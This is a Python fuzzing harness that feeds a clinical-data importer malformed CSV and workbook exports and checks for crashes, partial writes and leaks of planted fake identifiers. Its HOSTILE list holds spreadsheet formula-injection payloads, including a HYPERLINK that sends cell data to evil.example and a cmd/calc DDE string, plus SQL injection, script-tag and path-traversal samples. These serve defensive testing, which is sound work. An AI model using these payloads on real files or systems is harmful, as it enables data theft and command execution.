"""Fuzzing the importer (issue 6): ``python -m bench.fuzz_import --cases 10000``.

Each case is one or two hostile, malformed or huge-ish "exports" (random bytes, random
encodings, delimiters, line endings, ragged rows, quotes and embedded newlines, formula-looking
cells, very long fields, many columns, header-only files, BOMs, duplicate headers, workbooks,
valid canonical / long / wide / medication layouts with corrupted values) with a fake name,
SSN, phone number, e-mail, relative, account and subscriber ids planted in identifier
columns; free text (side effects, descriptions, sigs) carrying a relative's name, phone
numbers, an address, a date of birth and an MRN; impossible years (0, negative, five digits);
workbooks written with openpyxl and xlsxwriter, some with cells far over Excel's 32,767
characters; unclosed quotes; file names holding a date of birth and an MRN. Each is imported into a fresh
in-memory store and checked:

* the importer raises nothing but ``IngestError``;
* a failed import (or a dry run) writes nothing: table counts and the ledger are unchanged;
* a successful import reconciles: rows read = accepted + quarantined + skipped, per file, the
  quarantine holds exactly the quarantined rows and the ledger one entry per new file;
* no planted identifier reaches the store, the report (text or JSON) or the error message.

``tests/ingest/test_fuzz_import.py`` runs the same property on a few hundred cases in CI; this
module runs the long version and records the figures in ``bench/fuzz_results.md``.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import json
import platform
import re
import time
import traceback
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from kapoutcomes.ingest import IngestError, import_files
from kapoutcomes.storage.store import Store

SECRET = b"fuzz-test-secret-fuzz-test-secret-fuzz"
ROOT = Path(__file__).resolve().parent

#: Identifier values planted in identifier columns; none may reach the store or the report.
NAME = "Zebediah Quixworth"
SSN = "078-05-1120"
PHONE = "(555) 867-5309"
EMAIL = "zeb.quix@example.org"
RELATIVE = "Quilla Vantongeren"
PLANTED = (
    *("Zebediah", "Quixworth", SSN, "867-5309", "5558675309", EMAIL, "zeb.quix"),
    # issue 15: more identifier columns, and identifiers written into free text
    *("Quilla", "Vantongeren", "078051120", "SUBX99812345", "77331122", "867 5309"),
    *("12 Elm St", "04/06/1971", "1971-04-06", "48151623", "867.5309"),
)
ID_COLUMNS = {
    "Patient Name": NAME,
    "SSN": SSN,
    "Home Phone": PHONE,
    "Email": EMAIL,
    "Tel": "555.867.5309",
    "Soc Sec No": "078051120",
    "Responsible Party": RELATIVE,
    "Subscriber ID": "SUBX99812345",
    "Account #": "ACCT-77331122",
}
#: Free text carrying identifiers (a relative's name, phone, address, date of birth, MRN):
#: planted in side-effect text, descriptions and sigs; the scrubber must remove every one.
TAINTED = [
    "Zebediah said he felt dizzy",
    "nausea; wife Quilla Vantongeren called 555 867 5309",
    "lives at 12 Elm St Apt 4, felt floaty",
    "dob 04/06/1971, headache",
    "MRN 48151623 mild panic",
    "born 1971-04-06; call (555) 867.5309",
]

WIDE_MAPPING = (
    "wide.toml",
    b'[file]\nclinic = "C"\ncare_model = "KAP"\nroute = "IV"\n'
    b'[columns]\nmrn = "MRN"\nstarted_at = "Visit"\nsession_type = "Type"\ndose = "Dose"\n'
    b'side_effects = "Side effects"\nweight = "Weight"\n'
    b'[[assessments]]\ncolumn = "Pain"\ninstrument = "pain_nrs"\ntiming = "before_dose"\n'
    b'[values.session_type]\n"Infusion" = "induction"\n"Consult" = "screening"\n',
)

MRNS = ["M1", " m1 ", "M-2", "M3", "", "N/A", "DEMO-000009", "p_0123456789abcdef"]
DATES = [
    "2024-03-01",
    "03/04/2024",
    "3/4/24 9:30 AM",
    "2024-03-01T14:00:00Z",
    "2024-03-01 10:00:00+02:00",
    "25/03/2024",
    "2024-13-45",
    "01-Mar-2024",
    "",
    "1924-03-01",
    "2999-01-01",
    "0001-01-01",
    "9999-12-31T23:59:59",
    # impossible years (issue 15): 0, negative, five digits
    *("0000-03-04", "-12-03-04", "-0001-01-01", "12024-03-04", "03/04/0000", "03/04/99999"),
    *("Mar 4 0000", "0000-00-00", "04-Mar-0000", "2024-03-04T10:00:00+99:00"),
]
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "'=quoted",
    'a "quoted" value',
    "line one\nline two",
    "cr\ronly",
    "semi;colon|pipe\ttab,comma",
    "\u202eevil",  # right-to-left override
    "Ω≈ç√∫ 😀 中文",
    "\ufeffbom inside",
    "NaN",
    "inf",
    "-0",
    "1e309",
    "9" * 40,
    "0x1F",
    "%s%n%x",
    "'; DROP TABLE sessions; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "",
    " ",
    "N/A",
]

LAYOUTS: dict[str, dict[str, list[str]]] = {
    "long": {
        "MRN": MRNS,
        "Date": DATES,
        "LOINC": [
            *("72514-3", "44261-6", "70274-6", "55758-7", "44260-8", "8480-6", "8462-4"),
            *("8867-4", "29463-7", "8302-2", "", "zzz"),
        ],
        "Description": [
            *("Pain severity", "PHQ-9", "GAD 7", "Heart rate", 'Mood, "good"', ""),
            *TAINTED,
        ],
        "Value": [
            *("7/10", "7 out of 10", "11", "0", "27", "-", "declined", "Several days"),
            *("120", "12,5", "80 kg", "3", "abc"),
        ],
    },
    "canonical_sessions": {
        "MRN": MRNS,
        "started_at": DATES,
        "session_type": ["induction", "booster", "screening", "Induction", "party", ""],
        "route": ["IV", "intranasal", "IM", "oral", "iv", "teleport", ""],
        "dose_mg": ["35", "0", "-3", "35.5", "lots", ""],
        "care_model": ["KAP", "infusion_only", "kap", "x", ""],
    },
    "canonical_assessments": {
        "patient_id": MRNS,
        "assessed_at": DATES,
        "instrument": ["pain_nrs", "phq9", "gad7", "PHQ-9", "mood", ""],
        "item": ["", "9", "0", "x"],
        "score": ["7", "27", "100", "-1", "7.5", ""],
        "timing": ["baseline", "before_dose", "after_dose", "follow_up", "later", ""],
    },
    "medications": {
        "MRN": MRNS,
        "Medication": [
            "Acetaminophen 325 MG / Oxycodone Hydrochloride 10 MG Oral Tablet",
            "72 HR Fentanyl 0.025 MG/HR Transdermal System",
            "Ibuprofen 200 MG",
            "oxycodone 5 mg/ml solution",
            "tramadol hydrochloride 50 MG Oral Tablet",
            "",
            *(f"Oxycodone Hydrochloride 5 MG Oral Tablet {t}" for t in TAINTED),
        ],
        "Sig": [
            *("1 tab PO q6h prn", "BID", "", "whenever", "2 tabs PO TID prn"),
            *(f"1 tab PO q6h {t}" for t in TAINTED),
        ],
        "Start Date": DATES,
    },
    "wide": {
        "MRN": MRNS,
        "Visit": DATES,
        "Type": ["Infusion", "Infusion #2", "Consult", "booster", "", "Party"],
        "Dose": ["35 mg", "0.5 mg/kg", "-3 mg", "", "N/A", "lots"],
        "Pain": ["7/10", "3", "11", "", "declined"],
        "Side effects": [
            *("", "none", "nausea, felt floaty", "mild headache", "weird vibe"),
            *("severe panic; BP up", *TAINTED),
        ],
        "Weight": ["", "80 kg", "176 lbs", "heavy"],
    },
}
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1"]


@dataclass
class Case:
    """One fuzz case: the files of one import, its options, and what was done to them."""

    files: list[tuple[str, bytes]]
    kwargs: dict[str, Any] = field(default_factory=dict)
    preload: bool = False
    notes: tuple[str, ...] = ()

    def __repr__(self) -> str:  # short, for hypothesis' falsifying example
        sizes = [(n, len(b), b[:120]) for n, b in self.files]
        return f"Case({sizes}, kwargs={self.kwargs}, preload={self.preload}, {self.notes})"


# -- generating files -------------------------------------------------------------------------
@st.composite
def _cell(draw: st.DrawFn, choices: list[str]) -> str:
    kind = draw(st.integers(0, 199))
    if kind < 150:
        return draw(st.sampled_from(choices))
    if kind < 180:
        return draw(st.sampled_from(HOSTILE))
    if kind < 190:
        return draw(st.text(max_size=12))
    return str(draw(st.integers(-(10**12), 10**12)))


#: Planted identifiers no pattern can find (names, an e-mail's local part), by the identifier
#: column that names them: the importer scrubs them from free text only when the file has that
#: column (issue 15: "the names seen in the file's identifier columns").
NAMED_BY = {
    "Patient Name": ("Zebediah", "Quixworth"),
    "Responsible Party": ("Quilla Vantongeren", "Quilla", "Vantongeren"),
    "Email": ("zeb.quix",),
}


def unnamed(value: str, headers: list[str]) -> str:
    """``value`` without the planted names whose identifier column the file lacks.

    Every drawn cell goes through here, not only the sampled choices: Hypothesis also draws
    the string constants of this module into ``st.text()`` (its local-constants provider),
    which once put a lone "Quixworth" into a side-effect cell of a file with no name column
    (seed 18) - a name no rule of the contract could know to be one."""
    for column, tokens in NAMED_BY.items():
        if column not in headers:
            for t in tokens:
                value = re.sub(re.escape(t), "they", value, flags=re.IGNORECASE)
    return value


@st.composite
def _table(draw: st.DrawFn) -> tuple[list[str], list[list[str]], dict[str, Any], list[str]]:
    """A header and rows in one of the known layouts, corrupted; identifier columns planted."""
    layout = draw(st.sampled_from(sorted(LAYOUTS)))
    spec = LAYOUTS[layout]
    notes = [layout]
    headers = list(spec)
    ids = draw(st.lists(st.sampled_from(sorted(ID_COLUMNS)), unique=True, max_size=4))
    headers += ids
    if draw(st.booleans()):
        headers = draw(st.permutations(headers))
    if draw(st.integers(0, 9)) == 0:
        headers.append(draw(st.sampled_from(headers)))  # a duplicate header
        notes.append("duplicate header")
    extra = draw(st.sampled_from([0] * 12 + [3, 40, 499, 520]))
    headers += [f"extra {i}" for i in range(extra)]
    if extra:
        notes.append(f"{extra} extra columns")
    n_rows = draw(st.sampled_from([0, 1, 2, 5, 20, 60]))
    rows = []
    for _ in range(n_rows):
        row = []
        for h in headers:
            if h in ID_COLUMNS:
                row.append(ID_COLUMNS[h])
            elif h in spec:
                row.append(unnamed(draw(_cell(spec[h])), headers))
            else:
                row.append(draw(st.sampled_from(["", "1", "x", "=1+1"])))
        ragged = draw(st.integers(0, 14))
        if ragged == 0 and row:
            row = row[: draw(st.integers(0, len(row)))]  # short row
        elif ragged == 1:
            row = row + draw(st.lists(st.sampled_from(["", "extra", "9"]), max_size=3))
        rows.append(row)
    if rows and draw(st.integers(0, 7)) == 0:
        # an extremely long field: up to a little over the cell-length limit
        r = draw(st.integers(0, len(rows) - 1))
        if rows[r]:
            c = draw(st.integers(0, len(rows[r]) - 1))
            if c < len(headers) and headers[c] not in ID_COLUMNS:
                n = draw(st.sampled_from([1_000, 40_000, 140_000]))
                rows[r][c] = draw(st.sampled_from(["x", "7", "ab ", '"'])) * n
                notes.append(f"a {n:,}-character cell")
    if rows and draw(st.integers(0, 9)) == 0:
        # a stray NUL character in one cell (a damaged export): its row fails, not the file
        r = draw(st.integers(0, len(rows) - 1))
        if rows[r]:
            c = draw(st.integers(0, len(rows[r]) - 1))
            if c < len(headers) and headers[c] not in ID_COLUMNS:
                rows[r][c] = rows[r][c] + "\x00"
                notes.append("a NUL in a cell")
    kwargs: dict[str, Any] = {}
    if layout == "wide":
        kwargs["mapping"] = WIDE_MAPPING
    else:
        kwargs["clinic"] = draw(st.sampled_from(["C", None]))
    return headers, rows, kwargs, notes


def _serialise(draw: st.DrawFn, headers: list[str], rows: list[list[str]]) -> tuple[str, list]:
    delim = draw(st.sampled_from([",", ";", "\t", "|"]))
    ending = draw(st.sampled_from(["\n", "\r\n", "\r", "mixed"]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, "naive", "unclosed"]))
    notes = [f"delimiter {delim!r}", f"ending {ending!r}", f"quoting {quoting}"]
    lines = []
    if draw(st.integers(0, 9)) == 0:
        lines.append("Observation export, generated 2024-05-01")  # a title line
    for rec in [headers, *rows]:
        if quoting == "naive":
            lines.append(delim.join(rec))
        elif quoting == "unclosed":
            # one cell opens a quote it never closes: the following records run into it
            rec = list(rec)
            if rec and rec is not headers and draw(st.integers(0, 3)) == 0:
                c = draw(st.integers(0, len(rec) - 1))
                rec[c] = '"' + rec[c]
            lines.append(delim.join(rec))
        else:
            buf = io.StringIO()
            csv.writer(buf, delimiter=delim, quoting=quoting, lineterminator="").writerow(rec)
            lines.append(buf.getvalue())
        if draw(st.integers(0, 19)) == 0:
            lines.append("")  # a blank line
    if ending == "mixed":
        text = "".join(line + draw(st.sampled_from(["\n", "\r\n", "\r"])) for line in lines)
    else:
        text = ending.join(lines) + draw(st.sampled_from([ending, ""]))
    return text, notes


def _encode(draw: st.DrawFn, text: str) -> tuple[bytes, str]:
    enc = draw(st.sampled_from(ENCODINGS))
    if enc == "utf-8-sig":
        return b"\xef\xbb\xbf" + text.encode("utf-8", errors="surrogatepass"), enc
    try:
        return text.encode(enc), enc
    except UnicodeEncodeError:
        return text.encode(enc, errors="replace"), enc + " (replaced)"


def _workbook_xlsxwriter(headers: list[str], rows: list[list[str]]) -> bytes:
    import xlsxwriter

    bio = io.BytesIO()
    wb = xlsxwriter.Workbook(bio, {"in_memory": True, "strings_to_numbers": False})
    ws = wb.add_worksheet("Export")
    for c, h in enumerate(headers):
        ws.write_string(0, c, h[:250])
    for r, row in enumerate(rows, start=1):
        for c, v in enumerate(row):
            ws.write_string(r, c, "".join(ch for ch in v if ch >= " " or ch in "\t\n")[:32_000])
    wb.close()
    return bio.getvalue()


#: A cell text replaced after the workbook is written: a writer keeps cells within Excel's
#: 32,767 characters, a hostile workbook does not (issue 15: a 127 KB file held a 60 MB cell).
LONG_CELL = "LONGCELLPLACEHOLDER"


def oversized(book: bytes, n: int) -> bytes:
    """``book`` with every ``LONG_CELL`` replaced by ``n`` characters (written into the zip)."""
    import zipfile

    zin = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in zin.infolist():
            z.writestr(info, zin.read(info.filename).replace(LONG_CELL.encode(), b"7" * n))
    return out.getvalue()


def _workbook(headers: list[str], rows: list[list[str]], formulas: bool) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append([h[:250] for h in headers])
    for r in rows:
        # openpyxl refuses control characters; a cell holds at most 32,767 characters
        clean = ["".join(c for c in v if c >= " " or c in "\t\n")[:32_000] for v in r]
        if not formulas:
            clean = [("'" + v) if v.startswith("=") else v for v in clean]
        ws.append(clean)
    bio = io.BytesIO()
    wb.save(bio)
    return bio.getvalue()


@st.composite
def cases(draw: st.DrawFn) -> Case:
    n_files = draw(st.sampled_from([1, 1, 1, 2]))
    files: list[tuple[str, bytes]] = []
    kwargs: dict[str, Any] = {}
    notes: list[str] = []
    for i in range(n_files):
        kind = draw(st.integers(0, 19))
        stem = draw(st.sampled_from([f"export{i}", f"export{i}_1971-04-06_MRN48151623"]))
        name = stem + draw(st.sampled_from([".csv", ".tsv", ".txt", ".xlsx", ".CSV", ""]))
        if kind == 0:
            data = draw(st.binary(max_size=3000))
            notes.append("random bytes")
        elif kind == 1:
            text = unnamed(draw(st.text(max_size=600)), [])
            data, enc = _encode(draw, text)
            notes.append(f"random text {enc}")
        elif kind == 2:
            prefix = draw(
                st.sampled_from(
                    [
                        b"%PDF-1.7\n",
                        b"PK\x03\x04",
                        b"<!DOCTYPE html><html><body>Sign in</body></html>",
                        b'<?xml version="1.0"?><a/>',
                        b"\x89PNG\r\n\x1a\n",
                        b"\xd0\xcf\x11\xe0",
                        b"{\\rtf1 MRN,Date}",
                        b'[{"MRN": "M1"}]',
                        b"\xef\xbb\xbf",
                        b"\xff\xfe",
                        b"",
                    ]
                )
            )
            data = prefix + draw(st.binary(max_size=500))
            notes.append(f"magic {prefix[:12]!r}")
        else:
            headers, rows, kw, tnotes = draw(_table())
            kwargs.update(kw)
            notes.extend(tnotes)
            if kind < 5:
                big = draw(st.sampled_from([0] * 6 + [40_000, 2_000_000]))
                if big and rows and rows[0]:
                    c = draw(st.integers(0, len(rows[0]) - 1))
                    if c < len(headers) and headers[c] not in ID_COLUMNS:
                        rows[0][c] = LONG_CELL
                        notes.append(f"a {big:,}-character workbook cell")
                if draw(st.booleans()):
                    data = _workbook(headers, rows, formulas=draw(st.booleans()))
                    notes.append("workbook (openpyxl)")
                else:
                    data = _workbook_xlsxwriter(headers, rows)
                    notes.append("workbook (xlsxwriter)")
                if big:
                    data = oversized(data, big)
            else:
                text, snotes = _serialise(draw, headers, rows)
                data, enc = _encode(draw, text)
                notes.extend([*snotes, enc])
                if draw(st.integers(0, 29)) == 0 and data:
                    at = draw(st.integers(0, len(data) - 1))
                    data = data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at:]
                    notes.append("bytes spliced in")
        files.append((name, data))
    if draw(st.integers(0, 9)) == 0:
        kwargs["day_first"] = True
    if draw(st.integers(0, 9)) == 0:
        kwargs["dry_run"] = True
    if "mapping" not in kwargs and draw(st.integers(0, 14)) == 0:
        kwargs["preset"] = draw(st.sampled_from(["canonical", "long", "medications", "synthea"]))
    if draw(st.integers(0, 19)) == 0 and len(files) == 1:
        files.append(files[0])  # the same content twice in one import
        notes.append("same file twice")
    return Case(files, kwargs, preload=draw(st.integers(0, 3)) == 0, notes=tuple(notes))


PRELOAD = (
    "preload.csv",
    b"MRN,Date,LOINC,Value\nM1,2024-01-01,72514-3,6\nM3,2024-01-02,44261-6,12\n",
)


# -- the property -----------------------------------------------------------------------------
@dataclass
class Outcome:
    imported: bool = False
    ingest_error: str | None = None
    crash: str | None = None
    partial_write: str | None = None
    unreconciled: str | None = None
    leak: str | None = None

    @property
    def problems(self) -> list[str]:
        return [
            f"{k}: {v}"
            for k, v in (
                ("crash", self.crash),
                ("partial write", self.partial_write),
                ("unreconciled", self.unreconciled),
                ("identifier leak", self.leak),
            )
            if v
        ]


def _state(store: Store) -> tuple[dict[str, int], list[tuple]]:
    ledger = store.con.execute(
        "SELECT import_id, content_sha256, rows_read FROM import_ledger ORDER BY 1"
    ).fetchall()
    return store.counts(), ledger


def _store_text(store: Store) -> dict[str, str]:
    out = {}
    for table in store.counts():
        rows = store.con.execute(f'SELECT * FROM "{table}"').fetchall()
        out[f"table {table}"] = "\n".join(" ".join(str(v) for v in row) for row in rows)
    return out


def _leaks(text: str) -> list[str]:
    low = text.lower()
    return [p for p in PLANTED if p.lower() in low]


def check(case: Case) -> Outcome:
    """Import ``case`` into a fresh in-memory store and check the importer's promises."""
    out = Outcome()
    with Store(":memory:") as store:
        if case.preload:
            import_files([PRELOAD], store, clinic="C", secret=SECRET)
        before = _state(store)
        try:
            report = import_files(case.files, store, secret=SECRET, **case.kwargs)
        except IngestError as e:
            out.ingest_error = str(e)
            if _state(store) != before:
                out.partial_write = f"store changed after IngestError: {e}"
            if leaks := _leaks(str(e)):
                out.leak = f"error message holds {leaks}: {str(e)[:300]}"
            return out
        except Exception as e:  # anything else is a crash
            out.crash = f"{type(e).__name__}: {e}\n{traceback.format_exc(limit=6)}"
            return out
        out.imported = True
        after = _state(store)
        new_files = [f for f in report.files if not f.already_imported]
        problems = []
        for f in new_files:
            if f.rows_read != f.accepted + f.quarantined + f.skipped:
                problems.append(
                    f"{f.file}: rows read {f.rows_read} != {f.accepted} + {f.quarantined}"
                    f" + {f.skipped}"
                )
            if sum(r.count for r in f.skip_reasons) != f.skipped:
                problems.append(f"{f.file}: skip reasons do not add up to {f.skipped}")
            if not case.kwargs.get("dry_run"):
                q = store.con.execute(
                    "SELECT count(DISTINCT row_number) FROM quarantine WHERE import_id = ?",
                    [f.import_id],
                ).fetchall()[0][0]
                if q != f.quarantined:
                    problems.append(f"{f.file}: quarantine holds {q} rows, report {f.quarantined}")
        if case.kwargs.get("dry_run"):
            if after != before:
                out.partial_write = "a dry run changed the store"
        elif len(after[1]) != len(before[1]) + len(new_files):
            problems.append(
                f"ledger grew by {len(after[1]) - len(before[1])}, new files {len(new_files)}"
            )
        if problems:
            out.unreconciled = "; ".join(problems)
        where = {
            **_store_text(store),
            "report text": report.text(),
            "report JSON": json.dumps(report.to_dict(), default=str),
        }
        found = {
            k: (leaks, v[max(0, v.find(leaks[0]) - 200) : v.find(leaks[0]) + 100])
            for k, v in where.items()
            if (leaks := _leaks(v))
        }
        if found:
            out.leak = str(found)
    return out


# -- the long run -----------------------------------------------------------------------------
def run(n_cases: int, seed: int) -> dict[str, Any]:
    tally: Counter[str] = Counter()
    failures: list[str] = []
    errors: Counter[str] = Counter()

    @settings(
        max_examples=n_cases,
        deadline=None,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(case=cases())
    def one(case: Case) -> None:
        o = check(case)
        tally["cases"] += 1
        tally["imported"] += o.imported
        tally["ingest_error"] += o.ingest_error is not None
        for key in ("crash", "partial_write", "unreconciled", "leak"):
            if getattr(o, key):
                tally[key] += 1
                if len(failures) < 20:
                    failures.append(f"{key}: {getattr(o, key)}\n  case: {case!r}"[:3000])
                    print(failures[-1], flush=True)
        if o.ingest_error:
            problem = o.ingest_error.split(": ", 1)[-1].split(";")[0]
            errors[re.sub(r"\d[\d,]*", "N", problem)[:90]] += 1
        if tally["cases"] % 500 == 0:
            print(f"{tally['cases']:,} cases, {dict(tally)}", flush=True)

    one._hypothesis_internal_use_seed = seed  # type: ignore[attr-defined]
    t0 = time.perf_counter()
    one()
    return {
        "tally": tally,
        "failures": failures,
        "errors": errors,
        "seconds": time.perf_counter() - t0,
    }


def _machine() -> str:
    from bench.run import machine

    m = machine()
    return (
        f"{m['cpu']}, {m['cores']} CPUs, {m['memory_gib']} GiB, {m['platform']}, "
        f"Python {platform.python_version()}"
    )


def write_results(res: dict[str, Any], n_cases: int, seed: int, path: Path) -> None:
    t = res["tally"]
    lines = [
        "# Importer fuzzing: results",
        "",
        "Recorded by `python -m bench.fuzz_import` (see the module docstring for what a case",
        "is and what is checked). The last four figures must be zero.",
        "",
        f"* date: {dt.datetime.now(dt.UTC).strftime('%Y-%m-%d %H:%M UTC')}",
        f"* machine: {_machine()}",
        f"* command: `python -m bench.fuzz_import --cases {n_cases} --seed {seed}`",
        f"* wall time: {res['seconds']:,.0f} s ({res['seconds'] / max(1, t['cases']):.3f} s per case)",
        "",
        "| figure | count |",
        "|---|---|",
        f"| cases run | {t['cases']:,} |",
        f"| imported (reports checked) | {t['imported']:,} |",
        f"| refused with IngestError (store checked unchanged) | {t['ingest_error']:,} |",
        f"| crashes (any other exception) | {t['crash']:,} |",
        f"| partial writes | {t['partial_write']:,} |",
        f"| unreconciled rows | {t['unreconciled']:,} |",
        f"| identifier leaks | {t['leak']:,} |",
        "",
        "Most frequent refusals (IngestError problem, abridged):",
        "",
    ]
    for msg, n in res["errors"].most_common(15):
        lines.append(f"* {n:,} x {msg.strip()}")
    if res["failures"]:
        lines += ["", "## Failures", "", "```"]
        lines += res["failures"]
        lines += ["```"]
    old = path.read_text() if path.exists() else ""
    marker = "## Bugs found by fuzzing"
    tail = old[old.index(marker) :] if marker in old else f"{marker}\n\n(none recorded)\n"
    path.write_text("\n".join(lines) + "\n\n" + tail)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--cases", type=int, default=10_000)
    p.add_argument("--seed", type=int, default=6)
    p.add_argument("--out", default=str(ROOT / "fuzz_results.md"))
    p.add_argument("--no-record", action="store_true", help="print only")
    args = p.parse_args(argv)
    res = run(args.cases, args.seed)
    print(dict(res["tally"]), f"{res['seconds']:.0f} s")
    for f in res["failures"]:
        print(f)
    if not args.no_record:
        write_results(res, args.cases, args.seed, Path(args.out))
    bad = sum(res["tally"][k] for k in ("crash", "partial_write", "unreconciled", "leak"))
    return 1 if bad else 0


if __name__ == "__main__":
    raise SystemExit(main())
